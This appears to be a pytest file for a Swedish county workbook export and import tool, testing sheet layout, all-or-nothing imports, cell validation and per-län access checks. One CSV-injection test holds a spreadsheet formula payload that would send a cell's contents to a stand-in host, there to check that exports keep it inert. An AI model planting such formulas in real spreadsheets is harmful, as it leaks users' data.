"""The county workbook: out pre-filled, back in once with every sheet, all or nothing, unchanged rows untouched.

The verksamheter, seats and queues filled in here are TEST DATA for Jönköpings län, not facts."""

from __future__ import annotations

import io
from datetime import date

import openpyxl
import pytest
from sqlmodel import Session, select

from db import models as m
from db import queries
from report.summary import build, gather
from tests.conftest import dump
from tests.fixtures import JONKOPING, SOURCE, fill_county_book, filled_county_workbook
from upkeep import workbook, workbook_import
from upkeep.imports import ImportRefused


def _check(engine, data: bytes):
    with Session(engine) as s:
        result = workbook_import.check_all(workbook_import.read(data, "jonkoping.xlsx"), session=s, user=JONKOPING)
        counts = None if result.errors else workbook_import.preview(result, session=s, user=JONKOPING)
    return result, counts


def test_the_exported_workbook_has_a_sheet_per_kind_lists_and_no_example_rows(seeded_engine):
    with Session(seeded_engine) as s:
        book = openpyxl.load_workbook(io.BytesIO(workbook.export(session=s, lan_code="10", year=2025)))
    assert book.sheetnames == [
        "Instruktioner",
        "Verksamheter",
        "Betjänade kommuner",
        "Ledningsgrupp",
        "Ombud",
        "Kö och väntetider",
        "Kommunstatus",
        "Ansökan",
        "Beslut",
        "Återrapport",
        "Systembrister",
        "Listor",
    ]
    assert book["Listor"].sheet_state == "hidden"
    links = book["Betjänade kommuner"]
    assert links.freeze_panes == "A2"
    assert sorted(r[1] for r in links.iter_rows(min_row=2, values_only=True) if r[0]) == [
        "1060",
        "1080",
        "1081",
        "1082",
        "1083",
    ]  # Cura's five kommuner, codes as text
    statuses = [r for r in book["Kommunstatus"].iter_rows(min_row=2, values_only=True) if r[0]]
    assert [r[4] for r in statuses] == ["Olofström", "Karlskrona", "Ronneby", "Karlshamn", "Sölvesborg"]
    rules = {str(dv.sqref): dv.formula1 for dv in book["Ledningsgrupp"].data_validations.dataValidation}
    assert rules["H2:H1000"].startswith("Listor!")  # Brukarorganisationer from a list
    assert "Cura Individutveckling" not in [r[0] for r in book["Verksamheter"].iter_rows(min_row=3, values_only=True)]
    instructions = "\n".join(str(r[0]) for r in book["Instruktioner"].iter_rows(values_only=True) if r[0])
    assert "Exempel (skriv inte in exemplen på bladen)" in instructions


def test_a_filled_workbook_goes_in_once_and_every_page_sees_the_county(seeded_engine):
    data = filled_county_workbook(seeded_engine)
    result, counts = _check(seeded_engine, data)
    assert result.errors == ()
    assert {k: (c.new, c.changed, c.unchanged) for k, c in counts.items()} == {
        "Verksamheter": (2, 0, 0),
        "Betjänade kommuner": (4, 0, 0),
        "Ledningsgrupp": (2, 0, 0),
        "Ombud": (2, 0, 0),
        "Kö och väntetider": (2, 0, 0),
        "Kommunstatus": (4, 0, 0),
        "Ansökan": (0, 0, 0),
        "Beslut": (0, 0, 0),
        "Återrapport": (0, 0, 0),
        "Systembrister": (0, 0, 0),
    }
    with Session(seeded_engine) as s:
        written = workbook_import.apply_all(result, session=s, user=JONKOPING, filename="jonkoping.xlsx")
    assert sum(written.values()) == 16
    with Session(seeded_engine) as s:
        status = queries.kommun_status_frame(session=s, year=2025)
        report = build(gather(session=s, lan_code="06", year=2025), today=date(2026, 2, 20))
        log_rows = len(s.exec(select(m.AuditLog)).all())
    county = status[status.lan_kod == "06"].set_index("kommun")
    assert county.loc["Vetlanda", "status_text"] == "Har PO"
    assert county.loc["Vetlanda", "verksamhet"] == "Testverksamhet Höglandet"
    # the four with PO are named, so tabell 2's "4 of 13" forces the other nine at once
    assert (county.status_text == "Saknar PO").sum() == 9 and "Härlett" in county.loc["Eksjö", "harledning"]
    facts = {f.label: f.value for section in report.sections.values() for f in section}
    assert facts["Kompletta ledningsgrupper"] == "1 av 2"
    assert facts["Verksamheter med kö"] == "1 av 2"
    assert facts["Ombud (heltidstjänster, registrerade)"] == "4,25"
    again, counts = _check(seeded_engine, data)  # the same file once more
    assert {c.new + c.changed for c in counts.values()} == {0}
    with Session(seeded_engine) as s:
        assert sum(workbook_import.apply_all(again, session=s, user=JONKOPING, filename="igen.xlsx").values()) == 0
        assert len(s.exec(select(m.AuditLog)).all()) == log_rows  # unchanged rows are not logged


@pytest.mark.parametrize(
    "sheet, column, value, reason",
    [
        ("Ombud", 4, "en och en halv", "”en och en halv” är inte ett tal."),
        ("Ledningsgrupp", 4, "kanske", "ska vara besatt, vakant"),
        ("Kommunstatus", 3, "jo", "ska vara ja, nej eller okänd"),
        ("Betjänade kommuner", 2, "9999", "Okänd kommunkod"),
    ],
)
def test_one_bad_cell_on_any_sheet_names_it_and_writes_nothing(seeded_engine, sheet, column, value, reason):
    with Session(seeded_engine) as s:
        book = openpyxl.load_workbook(io.BytesIO(workbook.export(session=s, lan_code="06", year=2025)))
    fill_county_book(book)
    row = next(r for r in book[sheet].iter_rows(min_row=2) if r[0].value and (sheet != "Kommunstatus" or r[2].value))
    row[column - 1].value = value
    bad = io.BytesIO()
    book.save(bad)
    before = dump(seeded_engine)
    result, _ = _check(seeded_engine, bad.getvalue())
    [error] = result.errors
    header = [c.value for c in book[sheet][1]]
    assert (error.sheet, error.row, error.column) == (sheet, row[0].row, header[column - 1])
    assert reason in error.reason
    with Session(seeded_engine) as s, pytest.raises(ImportRefused):
        workbook_import.apply_all(result, session=s, user=JONKOPING, filename="fel.xlsx")
    assert dump(seeded_engine) == before


def test_a_row_about_another_lan_is_refused_by_row(seeded_engine):
    with Session(seeded_engine) as s:
        data = workbook.export(session=s, lan_code="06", year=2025)
    book = openpyxl.load_workbook(io.BytesIO(data))
    book["Ombud"].append(["Cura Individutveckling", 2025, 4, 3.5, 3.5, 110, SOURCE])
    out = io.BytesIO()
    book.save(out)
    result, _ = _check(seeded_engine, out.getvalue())
    assert [(e.sheet, e.row, e.column) for e in result.errors] == [("Ombud", 2, "Verksamhet")]
    assert result.errors[0].reason == (
        "Länsstyrelse 06 får bara ändra uppgifter i sitt eget län (raden gäller län 10)."
    )


def test_a_formula_like_name_stays_text_in_every_export(seeded_engine):
    """OWASP CSV injection: a verksamhet named like a formula is never run by Excel, and loses nothing in .xlsx."""
    import io

    import openpyxl
    import pandas as pd

    from report.sheets import sheets, to_csv
    from upkeep.workbook import export

    evil = '=HYPERLINK("http://example.invalid/?"&A1,"Klicka")'
    frame = pd.DataFrame({"Verksamhet": [evil, "@SUM(1+1)", "Vanlig"], "Förändring": ["-3", "+1", "0"]})
    lines = to_csv(frame).decode("utf-8-sig").splitlines()
    assert lines[1].startswith("\"'=HYPERLINK(") and lines[2].startswith("'@SUM") and lines[3] == "Vanlig;0"
    assert lines[1].endswith(";-3") and lines[2].endswith(";+1")  # plain numbers are left alone
    cell = openpyxl.load_workbook(io.BytesIO(sheets({"Data": frame}))).active["A2"]
    assert (cell.value, cell.data_type) == (evil, "s")
    with Session(seeded_engine) as s:
        v = s.exec(select(m.Verksamhet).where(m.Verksamhet.lan_code == "10")).first()  # Cura, Blekinge
        v.name = evil
        s.add(v)
        s.commit()
        book = openpyxl.load_workbook(io.BytesIO(export(session=s, lan_code="10", year=2025)))
    found = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row if c.value == evil]
    assert found and all(c.data_type == "s" for c in found)


def test_a_formula_without_a_stored_value_is_refused_not_read_as_blank(seeded_engine):
    """A program (not Excel) wrote =1+1 into Ombud: the number would be read as empty – refused, named, nothing saved."""
    with Session(seeded_engine) as s:
        book = openpyxl.load_workbook(io.BytesIO(workbook.export(session=s, lan_code="06", year=2025)))
    fill_county_book(book)
    row = next(r for r in book["Ombud"].iter_rows(min_row=2) if r[0].value == "Testverksamhet Höglandet")
    row[3].value = "=1+1"  # openpyxl stores the formula and no computed value
    data = io.BytesIO()
    book.save(data)
    before = dump(seeded_engine)
    with pytest.raises(
        ImportRefused, match=r"formler utan beräknat värde.*blad Ombud, rad \d+, kolumn Heltidstjänster: =1\+1"
    ):
        workbook_import.read(data.getvalue(), "program.xlsx")
    assert dump(seeded_engine) == before


def test_headers_are_locked_the_model_is_explained_and_lanskod_may_be_left_blank(seeded_engine):
    with Session(seeded_engine) as s:
        book = openpyxl.load_workbook(io.BytesIO(workbook.export(session=s, lan_code="06", year=2025)))
    sheet = book["Verksamheter"]
    assert sheet.protection.sheet and sheet["A1"].protection.locked
    assert not sheet.column_dimensions["A"].protection.locked  # the rest of the column stays open
    assert not sheet.protection.insertRows and not sheet.protection.sort  # rows can be added and sorted
    header = [c.value for c in sheet[1]]
    note = sheet.cell(1, header.index("Ledningsgruppsmodell (1–4)") + 1).comment.text
    assert "2 = Flera kommuner har en gemensam verksamhet" in note and "Kartläggning" in note
    instructions = "\n".join(str(r[0]) for r in book["Instruktioner"].iter_rows(values_only=True) if r[0])
    assert "4 = En gemensam verksamhet med en ledningsgrupp per kommun" in instructions
    sheet.append(["Testverksamhet utan länskod", "", "kommun", "Eksjö kommun", "0686", 1, 2025, SOURCE])
    data = io.BytesIO()
    book.save(data)
    with Session(seeded_engine) as s:
        result = workbook_import.check_all(workbook_import.read(data.getvalue(), "a.xlsx"), session=s, user=JONKOPING)
        assert result.errors == ()
        workbook_import.apply_all(result, session=s, user=JONKOPING, filename="a.xlsx")
    with Session(seeded_engine) as s:
        saved = s.exec(select(m.Verksamhet).where(m.Verksamhet.name == "Testverksamhet utan länskod")).one()
    assert saved.lan_code == "06"
